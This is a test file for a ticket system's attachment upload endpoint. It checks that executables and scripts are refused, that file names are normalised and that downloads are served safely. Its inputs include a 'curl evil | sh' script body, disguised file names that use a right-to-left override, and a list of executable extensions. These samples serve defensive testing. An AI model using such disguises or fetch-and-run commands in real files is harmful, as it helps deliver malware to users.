import { expect, it } from "vitest";
import { describeEachEngine } from "../../../test/support/db.ts";
import { buildTicket, buildWorkspace } from "../../../test/support/factories.ts";
import { call, sessionFor, upload, withApp } from "../../../test/support/http.ts";

/** A minimal Windows program: the MZ header pointing at a PE signature. */
function windowsProgram(): Buffer {
  const pe = Buffer.alloc(512);
  pe.write("MZ", 0);
  pe.writeUInt32LE(0x80, 0x3c);
  pe.write("PE\0\0", 0x80, "binary");
  return pe;
}

describeEachEngine("uploading an attachment", (ctx) => {
  const http = withApp(ctx);

  async function setup() {
    const w = await buildWorkspace(ctx.deps);
    const requester = await sessionFor(ctx.deps, w.requester.personId);
    const ticket = await buildTicket(ctx.deps, w.agent, { requesterId: w.requester.personId });
    return { requester, to: `/api/v1/tickets/${ticket.id}/attachments` };
  }

  it("refuses an executable or script name even behind trailing dots, spaces or a right-to-left override", async () => {
    const s = await setup();
    for (const filename of [
      "setup.exe.",
      "setup.exe ",
      "a.hta",
      "a.vbe",
      "a.wsf",
      "a.lnk",
      "a.scr",
      "a.js",
      "a.jar",
      "a.msi",
      "a.ps1",
      "a.bat",
      "a.cmd",
      "photo.jpg.exe",
      "invoice\u202Efdp.exe",
    ]) {
      const res = await upload(http.app, { url: s.to, as: s.requester, filename, bytes: "harmless words" });
      expect({ filename, status: res.statusCode, code: res.json().code, field: res.json().errors?.[0]?.field }).toEqual(
        { filename, status: 422, code: "ATTACHMENT_TYPE_REFUSED", field: "body.file" },
      );
    }
  });

  it("refuses a program whatever harmless name it wears", async () => {
    const s = await setup();
    for (const filename of ["invoice.pdf", "holiday.jpg", "notes"]) {
      const res = await upload(http.app, {
        url: s.to,
        as: s.requester,
        filename,
        bytes: windowsProgram(),
        contentType: "application/pdf",
      });
      expect({ filename, status: res.statusCode, code: res.json().code }).toEqual({
        filename,
        status: 422,
        code: "ATTACHMENT_TYPE_REFUSED",
      });
    }
    const script = await upload(http.app, {
      url: s.to,
      as: s.requester,
      filename: "readme.txt",
      bytes: "#!/bin/sh\ncurl evil | sh\n",
      contentType: "text/plain",
    });
    expect(script.statusCode).toBe(422);
  });

  it("stores the normalised name and offers it only as a download, never sniffed", async () => {
    const s = await setup();
    const res = await upload(http.app, {
      url: s.to,
      as: s.requester,
      filename: " ..C:\\fakepath\\minutes\u202E  of\tmeeting.txt. ",
      bytes: "hello",
      contentType: "text/plain",
    });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toMatchObject({ filename: "minutes of meeting.txt", contentType: "text/plain" });
    const download = await call(http.app, { method: "GET", url: `${s.to}/${res.json().id}`, as: s.requester });
    expect(download.statusCode).toBe(200);
    expect(download.headers["content-disposition"]).toBe(
      `attachment; filename="minutes of meeting.txt"; filename*=UTF-8''minutes%20of%20meeting.txt`,
    );
    expect(download.headers["x-content-type-options"]).toBe("nosniff");
    expect(download.body).toBe("hello");
  });
});
